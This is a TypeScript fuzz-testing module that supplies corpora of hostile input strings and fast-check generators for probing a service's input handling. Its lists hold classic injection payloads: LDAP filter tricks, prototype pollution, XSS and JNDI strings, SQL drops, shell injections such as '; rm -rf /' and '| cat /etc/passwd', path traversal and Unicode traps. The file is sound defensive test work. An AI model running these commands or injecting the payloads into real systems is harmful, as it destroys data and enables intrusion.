import fc from 'fast-check';

/**
 * Known-bad strings for every boundary that reads text from outside: filter, query and markup
 * injection, prototype pollution, NATS subject wildcards, and the Unicode that breaks naive
 * code (lone surrogates, direction marks, zero-width characters, NUL, CR/LF, C1 controls,
 * characters that normalise into others). They are literals on purpose: a generator finds
 * new inputs, a corpus makes sure the classics are tried on every run.
 */

/** LDAP filter and DN injection (RFC 4515 metacharacters and the forms AD accepts in a bind). */
export const LDAP_INJECTION: readonly string[] = [
  '*',
  '**',
  '*)(',
  ')(',
  '(|(cn=*))',
  '*)(uid=*',
  '*)(|(uid=*',
  '*)(objectClass=*',
  'good*',
  '*good',
  'g*d',
  'admin*',
  'alice)(|(cn=*)',
  '(&)',
  '(|)',
  '!(uid=*)',
  '\\00',
  '\\2a',
  '\\28\\29',
  '\\5c',
  'good\\',
  'good\\00',
  'cn=admin,dc=example,dc=test',
  'uid=good,ou=people,dc=example,dc=test',
  'CN=good,CN=Users,DC=corp,DC=example,DC=test',
  'CORP\\good',
  'corp.example.test\\good',
  'good@',
  '@corp.example.test',
  'good@@corp.example.test',
  'good@corp@example',
  'good,ou=people',
  'good+cn=x',
  '#good',
  ' good',
  'good ',
];

/** JSON and JavaScript object traps. */
export const JSON_TRAPS: readonly string[] = [
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'hasOwnProperty',
  '{"__proto__":{"admin":true}}',
  '{"constructor":{"prototype":{"admin":true}}}',
  '"',
  '\\"',
  '\\u0000',
  '{}',
  '[]',
  'null',
  'undefined',
  'true',
  '1e309',
  '-0',
  'NaN',
  '{"a":1,"a":2}',
];

/** Markup, script and template injection, for what pages render. */
export const MARKUP_INJECTION: readonly string[] = [
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  "'><svg onload=alert(1)>",
  '</textarea><script>alert(1)</script>',
  '</title>',
  '<!--',
  ']]>',
  '&lt;b&gt;',
  '&#0;',
  'javascript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  '{{7*7}}',
  '${7*7}',
  '${jndi:ldap://example.invalid/a}',
  '%s%s%s%n',
];

/** SQL, shell and path injection: nothing of passage speaks these, and nothing must care. */
export const OTHER_INJECTION: readonly string[] = [
  "' OR '1'='1",
  "' OR 1=1 --",
  "'; DROP TABLE users; --",
  '" OR ""="',
  '1; SELECT pg_sleep(10)',
  '$(reboot)',
  '`id`',
  '; rm -rf /',
  '| cat /etc/passwd',
  '../../etc/passwd',
  '..\\..\\windows\\win.ini',
  '/dev/zero',
  'file:///etc/passwd',
  'C:\\Windows\\System32',
];

/** NATS subject metacharacters: ids and tenants become subject tokens. */
export const SUBJECT_TRAPS: readonly string[] = [
  '>',
  'a.b',
  'a.*',
  'passage.other.commands',
  '.',
  '..',
  'a b',
  'a\tb',
  '$JS.API.STREAM.DELETE.PASSAGE_EVENTS',
  '_INBOX.x',
];

/** Unicode edge cases, each a single, named trap. */
export const UNICODE_TRAPS: readonly string[] = [
  '\u0000',
  'a\u0000b',
  '\r\n',
  'a\r\nX-Injected: 1',
  '\n',
  '\t',
  '\u0007',
  '\u001b[31m',
  '\u007f',
  '\u0085',
  '\u009f',
  '\u00a0',
  '\u2028',
  '\u2029',
  '\ud800',
  '\udfff',
  'a\ud800b',
  '\udc00\ud800',
  '\u202e',
  'abc\u202edcba',
  '\u200f',
  '\u200e',
  '\u200b',
  'go\u200bod',
  '\u200d',
  '\u200c',
  '\u2060',
  '\ufeff',
  'good\ufeff',
  '\ufffd',
  '\uffff',
  '\ufffe',
  'e\u0301',
  '\u00e9',
  'Zoë',
  'gööd',
  '山田',
  '主',
  'ｇｏｏｄ',
  'İ',
  'ı',
  'ß',
  'ﬁ',
  '\u3164',
  '\u{e0041}',
  '\u{1f469}\u200d\u{1f4bb}',
  '\u{10ffff}',
  '\u2126',
  '\u03a9',
];

/** Everything above, and a few sizes past every limit (username 256, password 1 KiB, body 16 KiB). */
export const HOSTILE_STRINGS: readonly string[] = [
  ...LDAP_INJECTION,
  ...JSON_TRAPS,
  ...MARKUP_INJECTION,
  ...OTHER_INJECTION,
  ...SUBJECT_TRAPS,
  ...UNICODE_TRAPS,
  '',
  ' ',
  '   ',
  'x'.repeat(257),
  'x'.repeat(1025),
  'é'.repeat(300),
  '\u{1f600}'.repeat(200),
  'a'.repeat(16 * 1024 + 1),
];

/** One UTF-16 code unit of the surrogate range: a lone half, which well-formed text never has. */
const loneSurrogate = fc.integer({ min: 0xd800, max: 0xdfff }).map((n) => String.fromCharCode(n));

/** C0, DEL and C1 controls. */
const controlCharacter = fc
  .oneof(fc.integer({ min: 0, max: 0x1f }), fc.integer({ min: 0x7f, max: 0x9f }))
  .map((n) => String.fromCharCode(n));

/** Single characters a careless reader mishandles. */
const trickyCharacter = fc.oneof(
  fc.constantFrom(...UNICODE_TRAPS),
  fc.constantFrom('*', '(', ')', '\\', '"', "'", '<', '>', '&', '=', ',', '+', '#', ';', '@', '.'),
  loneSurrogate,
  controlCharacter,
);

/** Text of any code points, lone surrogates and controls included. */
export const anyText = (maxLength = 64): fc.Arbitrary<string> =>
  fc.string({
    unit: fc.oneof(
      { arbitrary: fc.string({ unit: 'binary', minLength: 1, maxLength: 1 }), weight: 6 },
      { arbitrary: trickyCharacter, weight: 3 },
    ),
    maxLength,
  });

/** A string from the corpus with tricky characters spliced in at random places. */
const spliced = (base: fc.Arbitrary<string>): fc.Arbitrary<string> =>
  fc
    .tuple(base, fc.array(fc.tuple(fc.nat(), trickyCharacter), { minLength: 1, maxLength: 4 }))
    .map(([text, inserts]) =>
      inserts.reduce((s, [at, c]) => {
        const i = at % (s.length + 1);
        return s.slice(0, i) + c + s.slice(i);
      }, text),
    );

/** A run of one character, long enough to cross a limit (or to be very long). */
export const longText = (minLength: number, maxLength: number): fc.Arbitrary<string> =>
  fc
    .tuple(
      fc.integer({ min: minLength, max: maxLength }),
      fc.constantFrom('a', 'é', '*', '\u{1f600}', '\u0000', ')('),
    )
    .map(([n, c]) => c.repeat(Math.ceil(n / c.length)).slice(0, n));

/**
 * Hostile text: corpus entries, corpus entries with tricky characters spliced in, several
 * entries joined, random text of any code points, and the occasional very long value.
 * `around` adds values close to a legitimate one (the right user name with a `*`, say).
 */
export const hostileText = (around: readonly string[] = []): fc.Arbitrary<string> =>
  fc.oneof(
    { arbitrary: fc.constantFrom(...HOSTILE_STRINGS), weight: 4 },
    { arbitrary: spliced(fc.constantFrom(...HOSTILE_STRINGS, ...around)), weight: 3 },
    {
      arbitrary: fc
        .array(fc.constantFrom(...HOSTILE_STRINGS), { minLength: 2, maxLength: 4 })
        .map((parts) => parts.join('')),
      weight: 1,
    },
    { arbitrary: anyText(), weight: 3 },
    { arbitrary: longText(200, 3000), weight: 1 },
  );

/** Bytes that are not text: invalid UTF-8, NULs, random binary. */
export const garbageBytes = (maxLength = 512): fc.Arbitrary<Uint8Array> =>
  fc.oneof(
    fc.uint8Array({ minLength: 1, maxLength }),
    fc.constantFrom(
      new Uint8Array([0xff, 0xfe, 0x00, 0x7b]),
      new Uint8Array([0xc0, 0x80]),
      new Uint8Array([0xed, 0xa0, 0x80]),
      new Uint8Array([0x7b, 0x22, 0xf8, 0x22, 0x3a, 0x31, 0x7d]),
      new Uint8Array([0]),
    ),
  );
